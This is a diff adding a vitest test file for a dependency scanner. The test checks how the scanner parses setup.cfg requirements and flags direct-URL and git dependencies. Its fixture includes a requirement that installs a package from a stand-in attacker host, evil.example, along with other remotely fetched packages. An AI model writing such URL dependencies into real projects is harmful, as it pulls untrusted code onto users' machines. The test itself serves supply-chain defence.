@@ -1,0 +1,48 @@
+import { describe, expect, it } from 'vitest';
+import { setupCfgRequirements } from '../../../src/deps/parsers/python/setup-cfg-requirements.js';
+import { pythonDepsStage } from '../../../src/deps/parsers/python/stage.js';
+import { scanWith } from '../../helpers/scan.js';
+import { tempTrees } from '../../helpers/temp-tree.js';
+
+const tree = tempTrees('cp-setup-cfg-');
+
+const SETUP_CFG = `[metadata]
+name = app
+install_requires = not-an-option
+
+[options]
+packages = find:
+install_requires =
+    numpy>=1.20
+    # pinned below
+    evil @ https://evil.example/evil-1.0.tar.gz ; python_version >= "3.8"
+setup_requires = wheel; helper @ git+https://github.com/o/helper@main
+tests_require = pytest @ https://example.com/pytest.whl
+
+[options.extras_require]
+gpu =
+    torch @ https://download.example/torch.whl
+`;
+
+// setuptools/config/setupcfg.py `_parse_requirements_list`: a dangling list is one requirement a line (its marker
+// kept), a one-line value is split at `;`; tests_require is never installed by pip, [metadata] is not [options].
+describe('setup.cfg requirements', () => {
+  it('are read as setuptools reads them, each at its line', () => {
+    expect(setupCfgRequirements(SETUP_CFG).map((a) => `${a.line}:${a.written}`)).toEqual([
+      '8:numpy>=1.20',
+      '10:evil @ https://evil.example/evil-1.0.tar.gz ; python_version >= "3.8"',
+      '11:wheel',
+      '11:helper @ git+https://github.com/o/helper@main',
+      '16:torch @ https://download.example/torch.whl',
+    ]);
+  });
+
+  it('are judged as the install arguments pip install . fetches', async () => {
+    const r = await scanWith(tree({ 'setup.cfg': SETUP_CFG }), [pythonDepsStage]);
+    expect(r.findings.map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 0}`).sort()).toEqual([
+      'CPP014@setup.cfg:11',
+      'CPP015@setup.cfg:10',
+      'CPP015@setup.cfg:16',
+    ]);
+  });
+});
